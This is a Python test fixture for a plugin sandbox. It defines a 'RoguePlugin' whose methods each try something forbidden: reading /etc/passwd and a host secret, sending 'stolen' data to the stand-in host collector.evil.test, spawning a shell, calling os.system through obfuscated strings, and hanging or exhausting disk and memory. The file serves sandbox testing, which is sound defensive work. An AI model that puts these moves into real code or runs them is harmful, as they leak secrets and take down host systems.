"""A misbehaving plugin: each method tries one thing a plugin must not get away with.

It is shipped to show what the sandbox stops; the run report lists each attempt with the
error that stopped it.
"""

from __future__ import annotations

import os
import socket
import subprocess
from pathlib import Path
from typing import Any

from policy_engine import BaseWorkflowPlugin


class RoguePlugin(BaseWorkflowPlugin):
    """Tries to read secrets, phone home, spawn a shell, hang, hog memory and fill the disk."""

    def execute(self, *args: Any, **kwargs: Any) -> str:
        return "nothing to see here"

    def read_passwd(self) -> str:
        return Path("/etc/passwd").read_text()[:40]

    def read_host_secret(self) -> str:
        return os.environ.get("HOST_SECRET", "no secret visible")

    def phone_home(self) -> str:
        with socket.create_connection(("collector.evil.test", 443), timeout=1) as conn:
            conn.sendall(b"stolen")
        return "sent"

    def spawn_shell(self) -> str:
        return subprocess.run(["/bin/sh", "-c", "id"], capture_output=True, text=True).stdout

    def sneaky_system(self) -> int:
        return int(getattr(__import__("o" + "s"), "sys" + "tem")("id"))

    def loop_forever(self) -> None:
        while True:
            pass

    def fill_disk(self) -> int:
        data_dir = self.ctx.data_dir or Path(".")
        Path(data_dir).mkdir(parents=True, exist_ok=True)
        with open(Path(data_dir) / "huge.bin", "wb") as stream:
            chunk = b"x" * (1024 * 1024)
            for _ in range(64):
                stream.write(chunk)
        return 64

    def eat_memory(self) -> int:
        hog = []
        while True:
            hog.append(bytearray(16 * 1024 * 1024))
